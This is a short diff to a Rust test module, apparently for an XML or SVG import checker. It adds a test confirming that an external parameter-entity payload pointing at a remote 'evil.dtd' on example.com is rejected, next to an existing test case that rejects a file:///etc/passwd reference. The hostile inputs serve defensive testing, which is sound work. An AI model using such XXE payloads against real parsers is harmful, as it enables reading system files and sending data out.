@@ -209,6 +209,13 @@ mod tests {
                 href: "file:///etc/passwd".to_owned()
             })
         );
+        let parameter = r#"<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;"#;
+        assert_eq!(
+            check(&doc(parameter, "")),
+            Err(ImportError::ExternalReference {
+                href: "http://example.com/evil.dtd".to_owned()
+            })
+        );
         assert_eq!(
             check(&doc(dtd, "<g id='&pub;'/>")),
             Err(ImportError::ExternalReference {
